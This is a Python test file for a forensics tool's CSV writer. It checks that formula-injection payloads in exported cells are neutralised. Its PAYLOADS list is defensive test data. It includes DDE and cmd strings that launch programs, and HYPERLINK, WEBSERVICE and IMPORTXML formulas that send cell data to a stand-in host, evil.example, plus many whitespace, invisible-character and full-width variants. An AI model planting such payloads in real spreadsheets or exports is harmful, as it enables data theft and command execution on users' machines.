"""CSV cells stay inert in a spreadsheet: every formula payload is neutralised, including ones
behind leading whitespace or invisible characters and in full-width or small forms.

Cost: pure functions and two small files; well under a second (hypothesis: 300 examples).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
from hypothesis import given, settings
from hypothesis import strategies as st

from forensics.bundle.members import findings_csv
from forensics.outputs.csvfile import is_formula, neutralise, write

PAYLOADS = [
    # the classic ones (OWASP, public CSV-injection write-ups)
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")', "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL http://evil.example'!A",
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    # control characters OWASP lists (tab, CR, LF) and NUL (ASVS 1.2.10)
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\t\t-2+3",
    # leading whitespace and invisible characters spreadsheets trim
    " =1+1", "   +1", "\u00a0=1+1", "\u3000@SUM(1)", "\u2002-2", "\u200b=1", "\ufeff=1", " \t =HYPERLINK(\"x\")",
    # full-width and small forms, and the minus sign
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "\u22121", "\u3000＝1",
]  # fmt: skip
BENIGN = [
    "plain",
    "hello =1",
    "10.0.0.1",
    "2022-11-23T02:10:05Z",
    "a-b",
    "'=already quoted",
    "",
    "   ",
    "x\u00a0",
]


def test_every_payload_is_neutralised() -> None:
    assert len(PAYLOADS) >= 26
    for payload in PAYLOADS:
        assert is_formula(payload), repr(payload)
        assert neutralise(payload) == "'" + payload, repr(payload)


def test_benign_text_is_left_as_it_is() -> None:
    for text in BENIGN:
        assert neutralise(text) == text, repr(text)


@settings(max_examples=300, derandomize=True)
@given(st.text(max_size=12))
def test_neutralised_text_is_never_a_formula_and_keeps_the_original(text: str) -> None:
    out = neutralise(text)
    assert out in (text, "'" + text)
    assert not is_formula(out)


def test_csv_file_round_trip_keeps_every_cell_inert(tmp_path: Path) -> None:
    table = pa.table({
        "message": PAYLOADS + BENIGN,
        "tags": [[p, "x"] for p in PAYLOADS + BENIGN],
    })  # fmt: skip
    out = tmp_path / "t.csv"
    write(table, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["message", "tags"]
    for (message, tags), original in zip(rows[1:], PAYLOADS + BENIGN, strict=True):
        assert not is_formula(message) and not is_formula(tags)
        assert message.removeprefix("'") == original if is_formula(original) else message == original


def test_bundle_findings_csv_is_inert() -> None:
    findings = [{"finding_id": "f1", "title": "＝HYPERLINK(\"x\")", "summary": " =cmd|' /C calc'!A0",
                 "host": "\u00a0@evil", "tactics": ["-x"], "records": []}]  # fmt: skip
    text = findings_csv(findings).decode("utf-8")
    header, row = list(csv.reader(text.splitlines()))
    for name, value in zip(header, row, strict=True):
        assert not is_formula(value), (name, value)
    assert row[header.index("summary")] == "' =cmd|' /C calc'!A0"
